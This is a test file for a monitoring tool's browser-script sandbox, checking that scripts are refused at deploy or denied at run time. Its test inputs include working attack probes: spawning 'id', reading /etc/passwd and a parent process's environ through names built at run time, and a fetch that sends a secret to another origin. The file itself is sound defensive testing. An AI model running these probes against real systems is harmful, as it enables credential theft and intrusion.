/**
 * The browser-script sandbox, attacked: scripts that read the agent's environment, arguments, files,
 * processes and bindings are refused at deploy (the loader, as `lookout deploy` and `lookout test` run it,
 * and the deploy API's validation of hand-made definitions), and those that get past the static check
 * with names built at run time find nothing: an empty environment, Node's permission model, no code
 * from strings, another user. The relay refuses CDP sessions; a synchronous loop is killed at the deadline.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserCheckDefinition, RunResult } from '../../checks/contract.ts';
import { formatDiagnostic } from '../../checks/diagnostics.ts';
import { runCheckOnce } from '../../agent/runs/local.ts';
import { runnerTable } from '../../agent/runners/index.ts';
import { withSecrets } from '../../agent/secrets/apply.ts';
import { createBrowserRunner, type BrowserRunner } from '../../agent/runners/browser/runner.ts';
import { validateDefinitions } from '../../coordinator/registry/definitions.ts';
import { browserCheck, loadProject, removeProjects } from '../support/browser-checks.ts';
import { startHttpTarget, type TestTarget } from '../support/http-targets.ts';
import { startTestSite, type TestSite } from '../support/pages.ts';
import { isAlive } from '../support/processes.ts';
import { waitUntil } from '../support/wait.ts';

let site: TestSite;
let runner: BrowserRunner;
const AGENT_SECRET = 'redis://agent:hunter2@127.0.0.1:6379';
const SECRETS = { SHOP_ITEM: 'rocket', OTHER_TEAM_KEY: 'not-yours' };

beforeAll(async () => {
  site = await startTestSite();
  // The agent's own environment holds what a script must never see.
  process.env.LOOKOUT_TEST_AGENT_ONLY = AGENT_SECRET;
  runner = createBrowserRunner({ concurrency: 2, secrets: SECRETS });
}, 30_000);
afterAll(async () => {
  delete process.env.LOOKOUT_TEST_AGENT_ONLY;
  await runner?.close();
  removeProjects();
  await site?.close();
}, 30_000);

/** As an agent runs it: the runner wrapped with the secrets (resolution by need, scrubbing). */
const run = async (definition: BrowserCheckDefinition): Promise<RunResult> => {
  await runner.warmUp();
  return runCheckOnce(definition, { runners: withSecrets(runnerTable({ browser: runner.run }), SECRETS) });
};

const check = (id: string, body: string): string => `import { defineBrowserCheck } from 'lookout/checks';
export default defineBrowserCheck({ id: '${id}', name: '${id}', regions: ['local'], script: async ({ page, secrets }) => {
${body}
} });
`;

describe('refused at deploy', () => {
  const attacks: Array<[string, string, RegExp]> = [
    // (`process.env.NAME` alone is fixed at deploy to the deploying machine's value, like an HTTP check's fields.)
    ['env', 'await page.goto(JSON.stringify(process.env));', /process\.env is empty in a browser check's process/],
    ['argv', 'await page.goto(process.argv.join(","));', /process\.argv is empty/],
    ['require', "const cp = require('child_process'); cp.execSync('id');", /require\(\) of "child_process" is not allowed|require is not allowed/],
    ['dynamic-import', "const fs = await import('node:fs'); fs.readFileSync('/etc/passwd');", /dynamic import\(\)/],
    ['binding', "(globalThis as any).process.binding('fs');", /"binding" is not allowed/],
  ];

  it.each(attacks)('the loader refuses %s with file and line', async (name, body, message) => {
    const loaded = await loadProject({ [`${name}.check.ts`]: check(name, body) });
    expect(loaded.checks).toEqual([]);
    const lines = loaded.problems.map(formatDiagnostic);
    expect(lines.some((line) => message.test(line) && new RegExp(`${name}\\.check\\.ts:3:\\d+ `).test(line)), lines.join('\n')).toBe(true);
  });

  it('the loader refuses static imports of node:child_process, node:fs, node:net and node:worker_threads at their line', async () => {
    const loaded = await loadProject({
      'imports.check.ts': `import { execSync } from 'node:child_process';\nimport { readFileSync } from 'node:fs';\nimport net from 'node:net';\nimport { Worker } from 'node:worker_threads';\n${check('imports', 'void [execSync, readFileSync, net, Worker];')}`,
    });
    expect(loaded.problems.map((p) => [p.line, p.message.split(' cannot')[0]])).toEqual([
      [1, '"node:child_process"'], [2, '"node:fs"'], [3, '"node:net"'], [4, '"node:worker_threads"'],
    ]);
  });

  it('the deploy API refuses a hand-made definition whose bundle does the same, naming the field and line', async () => {
    const definition = await browserCheck('clean', 'await page.goto("about:blank");');
    const bundle = 'import { execSync } from "node:child_process";\nexport default { __lookoutCheck: true, type: "browser", id: "clean",\n  script: async () => { execSync("id"); await import("node:fs"); globalThis.process.binding("fs"); } };\n';
    const validation = await validateDefinitions([{ ...definition, script: { bundle, file: 'evil.check.ts' } }]);
    expect('problems' in validation && validation.problems.map((p) => `${p.field} ${p.message}`)).toEqual([
      expect.stringMatching(/^script\.bundle evil\.check\.ts \(bundle\):1:\d+ "node:child_process" cannot be imported/),
      expect.stringMatching(/^script\.bundle evil\.check\.ts \(bundle\):3:\d+ dynamic import\(\)/),
      expect.stringMatching(/^script\.bundle evil\.check\.ts \(bundle\):3:\d+ "binding" is not allowed/),
    ]);
    // And a list of secrets that leaves out one the script reads.
    const reads = await browserCheck('reads', 'await page.fill("input", secrets.SHOP_ITEM);');
    const short = await validateDefinitions([{ ...reads, secrets: [] }]);
    expect('problems' in short && short.problems).toEqual([expect.objectContaining({ field: 'secrets', message: expect.stringContaining('"SHOP_ITEM"') })]);
  });
});

describe('at run time, a script that gets past the static check finds nothing', () => {
  it('no environment, no arguments worth having, no files, processes, bindings or code from strings, another user, only its own secrets', async () => {
    const definition = await browserCheck('prober', `
      const p = globalThis[['pro', 'cess'].join('')];
      const attempt = (f) => { try { return 'ALLOWED: ' + String(f()).slice(0, 60); } catch (e) { return e.code ?? e.name; } };
      const get = ['getBuiltin', 'Module'].join('');
      const found = {
        env: JSON.stringify(p.env),
        argv: p.argv.join(' '),
        uid: p.getuid(),
        binding: attempt(() => p[['bind', 'ing'].join('')]('fs')),
        passwd: attempt(() => p[get]('fs').readFileSync('/etc/passwd', 'utf8')),
        agentEnviron: attempt(() => p[get]('fs').readFileSync('/proc/' + p.ppid + '/environ', 'utf8')),
        spawn: attempt(() => p[get]('child_process').execSync('id')),
        worker: attempt(() => new (p[get]('worker_threads').Worker)('1', { eval: true })),
        codeFromStrings: attempt(() => globalThis[['ev', 'al'].join('')]('1 + 1')),
        secrets: Object.keys(secrets),
        shopItem: secrets.SHOP_ITEM,
      };
      throw new Error(JSON.stringify(found));
    `);
    expect(definition.secrets).toEqual(['SHOP_ITEM']);
    const result = await run(definition);
    expect(result.error?.code, JSON.stringify(result.error)).toBe('SCRIPT_ERROR');
    const found = JSON.parse(result.error!.message);
    expect(found.env).toMatch(/^\{("TMPDIR":"[^"]*")?\}$/);
    expect(found.argv).not.toContain('hunter2');
    expect(JSON.stringify(found)).not.toContain(AGENT_SECRET);
    if (process.getuid?.() === 0) expect(found.uid).toBe(65534);
    expect(found).toMatchObject({
      binding: 'ERR_ACCESS_DENIED', passwd: 'ERR_ACCESS_DENIED', agentEnviron: 'ERR_ACCESS_DENIED', spawn: 'ERR_ACCESS_DENIED',
      worker: 'ERR_ACCESS_DENIED', codeFromStrings: 'EvalError',
      // Only what its definition lists; the value itself is scrubbed from the report.
      secrets: ['SHOP_ITEM'], shopItem: '[secret:SHOP_ITEM]',
    });
  }, 60_000);

  it('reading a secret its definition does not list is SECRET_MISSING naming that one only', async () => {
    const definition = await browserCheck('computed', "const name = ['OTHER', 'TEAM', 'KEY'].join('_'); await page.fill('input', secrets[name]);");
    const result = await run(definition);
    expect(result.error?.code).toBe('SECRET_MISSING');
    expect(result.error!.message).toMatch(/^secret "OTHER_TEAM_KEY" is not among the secrets this check's definition lists/);
    expect(result.error!.message).not.toContain('SHOP_ITEM');
  }, 60_000);

  it("the relay refuses CDP sessions, which would see every other check's pages", async () => {
    for (const body of ['await page.context().browser().newBrowserCDPSession();', 'await page.context().newCDPSession(page);']) {
      const result = await run(await browserCheck('cdp', body));
      expect(result.error?.code).toBe('SCRIPT_ERROR');
      expect(result.error!.message).toMatch(/Lookout: "new(Browser)?CDPSession" is not available to browser checks/);
    }
    expect(runner.stats().relayRefused).toBeGreaterThanOrEqual(2);
  }, 60_000);

  it('aborts a request that would carry a secret bound to origins to another origin, and fails a run whose redirect hop carried it: SECRET_ORIGIN_DENIED', async () => {
    const hits: string[] = [];
    const elsewhere: TestTarget = await startHttpTarget((req, res) => { hits.push(`elsewhere ${req.url}`); res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>got it</h1>'); });
    const home: TestTarget = await startHttpTarget((req, res) => {
      hits.push(`home ${req.url}`);
      if (req.url === '/away') res.writeHead(302, { location: elsewhere.url('/landing') }).end();
      else res.writeHead(200, { 'content-type': 'text/html' }).end('<h1>home</h1>');
    });
    const origins = { STRIPE_KEY: [new URL(home.url('/')).origin] };
    const bound = createBrowserRunner({ concurrency: 1, secrets: { STRIPE_KEY: 'sk_live_bound' }, secretOrigins: origins });
    const runBound = async (definition: BrowserCheckDefinition) => (await bound.warmUp(), runCheckOnce(definition, { runners: withSecrets(runnerTable({ browser: bound.run }), { STRIPE_KEY: 'sk_live_bound' }, origins) }));
    try {
      // Sent to its own origin: fine.
      const own = await runBound(await browserCheck('own', `await page.setExtraHTTPHeaders({ 'x-key': secrets.STRIPE_KEY }); await page.goto('${home.url('/')}');`));
      expect(own.outcome, JSON.stringify(own.error)).toBe('pass');
      // Straight to another origin, from the page itself: stopped before it is sent.
      hits.length = 0;
      const direct = await runBound(await browserCheck('direct', `await page.goto('${home.url('/')}'); await page.evaluate((k) => fetch('${elsewhere.url('/collect')}?k=' + k).catch(() => {}), secrets.STRIPE_KEY);`));
      expect(direct.error?.code).toBe('SECRET_ORIGIN_DENIED');
      expect(direct.error!.message).toBe(`request to ${new URL(elsewhere.url('/')).origin} refused: it carries secret "STRIPE_KEY", which this agent sends only to ${origins.STRIPE_KEY[0]}`);
      expect(hits.filter((hit) => hit.startsWith('elsewhere'))).toEqual([]);
      // A redirect hop Chromium follows by itself (Playwright does not route it): the run fails, saying so.
      const hop = await runBound(await browserCheck('hop', `await page.setExtraHTTPHeaders({ 'x-key': secrets.STRIPE_KEY }); await page.goto('${home.url('/away')}');`));
      expect(hop.error?.code, JSON.stringify(hop.error)).toBe('SECRET_ORIGIN_DENIED');
      expect(hop.error!.message).toMatch(/sent it following a redirect from/);
    } finally {
      await bound.close();
      await Promise.all([home.close(), elsewhere.close()]);
    }
  }, 90_000);

  it('kills a synchronous infinite loop at the deadline: TIMEOUT, and its process is gone', async () => {
    const before = new Set(runner.sandboxPids());
    const definition = await browserCheck('spin', `await page.goto('${site.url}/tiny'); while (true) {}`, { timeout: '3s' });
    const started = Date.now();
    const running = run(definition);
    await waitUntil('the looping sandbox to start', () => runner.sandboxPids().some((pid) => !before.has(pid)) || Date.now() - started > 2_000, 10_000);
    const spinning = runner.sandboxPids();
    const result = await running;
    // TIMEOUT; or BROWSER_CAPACITY when starting its sandbox took a real part of the 3 s (a loaded machine).
    expect(['TIMEOUT', 'BROWSER_CAPACITY'], JSON.stringify(result.error)).toContain(result.error?.code);
    expect(result.error!.message).toMatch(/synchronous loop\?\): its sandbox process was killed/);
    expect(result.endedAt - result.startedAt).toBeLessThan(3_000 + 1_000);
    // The agent's event loop was never blocked, and the next run of the same check gets a fresh process.
    await waitUntil('the looping sandbox to exit', () => spinning.filter((pid) => !runner.sandboxPids().includes(pid)).every((pid) => !isAlive(pid)), 5_000);
  }, 60_000);
});
